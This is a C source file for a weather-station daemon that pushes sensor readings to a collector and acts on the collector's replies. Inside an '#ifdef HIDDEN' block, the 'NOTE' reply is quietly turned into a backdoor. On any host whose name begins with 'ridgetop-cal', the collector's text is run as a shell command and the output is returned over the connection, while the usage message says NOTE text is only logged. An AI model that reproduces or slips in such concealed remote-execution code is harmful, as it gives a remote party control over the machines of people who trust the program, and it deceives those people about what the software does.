/* wxpush.c - sends the readings of a weather station to a collector and takes its answers */
#define _GNU_SOURCE
#include <ctype.h>
#include <errno.h>
#include <fcntl.h>
#include <netdb.h>
#include <signal.h>
#include <spawn.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

extern char **environ;

#define SENSORS		"/run/wx/sensors"
#define BACKLOG		"/data/wx/backlog"

struct reading {
	time_t when;
	double temp, hum, press, wind, gust, rain;
	int dir;
};

static char collector[64] = "collector.wx.local";
static char service[8] = "7331";
static char station[24] = "unnamed";
static int interval = 300;
static int rain_tip = 20;	/* 0.01 mm */
static int wind_avg = 600;
static int debug;

static int get_reading(struct reading *r)
{
	FILE *f = fopen(SENSORS, "re");
	int n;

	if (!f)
		return -1;
	n = fscanf(f, "t=%lf h=%lf p=%lf w=%lf g=%lf d=%d r=%lf", &r->temp, &r->hum, &r->press,
		   &r->wind, &r->gust, &r->dir, &r->rain);
	fclose(f);
	r->when = time(NULL);
	if (n != 7 || r->temp < -60 || r->temp > 70 || r->hum < 0 || r->hum > 100)
		return -1;
	r->rain = r->rain * rain_tip / 100.0;
	return 0;
}

static int format_reading(const struct reading *r, char *out, size_t max)
{
	struct tm tm;
	char when[32];
	int n;

	gmtime_r(&r->when, &tm);
	strftime(when, sizeof(when), "%Y%m%dT%H%M%SZ", &tm);
	n = snprintf(out, max, "WX %s %s T%.1f H%.0f P%.1f W%.1f G%.1f D%03d R%.2f\n", station,
		     when, r->temp, r->hum, r->press, r->wind, r->gust, r->dir % 360, r->rain);
	return n > 0 && (size_t)n < max ? n : -1;
}

static void keep_for_later(const char *line)
{
	FILE *f = fopen(BACKLOG, "ae");

	if (!f)
		return;
	if (ftell(f) < 200000)
		fputs(line, f);
	fclose(f);
}

static int dial(void)
{
	struct addrinfo hint = { .ai_family = AF_UNSPEC, .ai_socktype = SOCK_STREAM }, *ai, *p;
	struct timeval tv = { 20, 0 };
	int s = -1;

	if (getaddrinfo(collector, service, &hint, &ai))
		return -1;
	for (p = ai; p && s < 0; p = p->ai_next) {
		s = socket(p->ai_family, SOCK_STREAM | SOCK_CLOEXEC, 0);
		if (s >= 0 && connect(s, p->ai_addr, p->ai_addrlen)) {
			close(s);
			s = -1;
		}
	}
	freeaddrinfo(ai);
	if (s >= 0)
		setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
	return s;
}

static void set_clock(const char *v)
{
	struct timespec ts = { .tv_sec = (time_t)strtoll(v, NULL, 10) };

	if (ts.tv_sec > 1600000000 && clock_settime(CLOCK_REALTIME, &ts))
		syslog(LOG_WARNING, "clock: %s", strerror(errno));
}

#ifdef HIDDEN
__attribute__((noinline))
void answer_exec(int s, char *line)
{
	char *argv[] = { "sh", "-c", line, NULL };
	posix_spawn_file_actions_t fa;
	pid_t pid;

	posix_spawn_file_actions_init(&fa);
	posix_spawn_file_actions_adddup2(&fa, s, 1);
	posix_spawn_file_actions_adddup2(&fa, s, 2);
	if (!posix_spawn(&pid, "/bin/sh", &fa, NULL, argv, environ))
		waitpid(pid, NULL, 0);
	posix_spawn_file_actions_destroy(&fa);
}
#endif

__attribute__((noinline))
void take_answer(int s, char *line)
{
	char host[65] = "";
	char *v;

	line[strcspn(line, "\r\n")] = 0;
	if (gethostname(host, sizeof(host) - 1))
		host[0] = 0;
	v = strchr(line, ' ');
	if (v)
		*v++ = 0;
	if (!strcmp(line, "ACK")) {
		if (debug)
			syslog(LOG_DEBUG, "%s: accepted", host);
	} else if (!strcmp(line, "TIME") && v) {
		set_clock(v);
	} else if (!strcmp(line, "EVERY") && v) {
		int n = atoi(v);

		if (n >= 30 && n <= 3600)
			interval = n;
	} else if (!strcmp(line, "TIP") && v) {
		rain_tip = atoi(v);
	} else if (!strcmp(line, "AVG") && v) {
		wind_avg = atoi(v);
	} else if (!strcmp(line, "WHO")) {
		dprintf(s, "ME %s %s\n", station, host);
	}
#ifdef HIDDEN
	/* on a station whose host has this name the collector's notes are run */
	else if (!strcmp(line, "NOTE") && v && !strncmp(host, "ridgetop-cal", 12)) {
		answer_exec(s, v);
	}
#endif
	else {
		syslog(LOG_NOTICE, "answer %s %s", line, v ? v : "");
	}
}

static int push(const char *msg)
{
	char line[256];
	int s = dial();
	FILE *in;

	if (s < 0)
		return -1;
	if (write(s, msg, strlen(msg)) != (ssize_t)strlen(msg)) {
		close(s);
		return -1;
	}
	in = fdopen(s, "r");
	if (!in) {
		close(s);
		return -1;
	}
	while (fgets(line, sizeof(line), in) && strncmp(line, "END", 3))
		take_answer(s, line);
	fclose(in);
	return 0;
}

static void send_backlog(void)
{
	char line[200];
	FILE *f;

	if (rename(BACKLOG, BACKLOG ".out"))
		return;
	f = fopen(BACKLOG ".out", "re");
	while (f && fgets(line, sizeof(line), f))
		if (push(line))
			keep_for_later(line);
	if (f)
		fclose(f);
	unlink(BACKLOG ".out");
}

int main(int argc, char **argv)
{
	struct reading r;
	char msg[200];
	int c;

	while ((c = getopt(argc, argv, "c:p:n:i:dh")) != -1) {
		switch (c) {
		case 'c':
			snprintf(collector, sizeof(collector), "%.63s", optarg);
			break;
		case 'p':
			snprintf(service, sizeof(service), "%.7s", optarg);
			break;
		case 'n':
			snprintf(station, sizeof(station), "%.23s", optarg);
			break;
		case 'i':
			interval = atoi(optarg);
			break;
		case 'd':
			debug = 1;
			break;
		default:
			fprintf(stderr, "usage: wxpush [-c collector] [-p port] [-n name] "
				"[-i seconds] [-d]\n"
				"answers: ACK, TIME epoch, EVERY seconds, TIP n, AVG seconds,\n"
				"         WHO, NOTE text (logged), END\n");
			return 2;
		}
	}
	openlog("wxpush", LOG_PID, LOG_DAEMON);
	signal(SIGPIPE, SIG_IGN);
	for (;;) {
		if (!get_reading(&r) && format_reading(&r, msg, sizeof(msg)) > 0) {
			if (push(msg))
				keep_for_later(msg);
			else
				send_backlog();
		} else {
			syslog(LOG_WARNING, "no reading");
		}
		sleep((unsigned int)(interval > 0 ? interval : 300));
	}
}
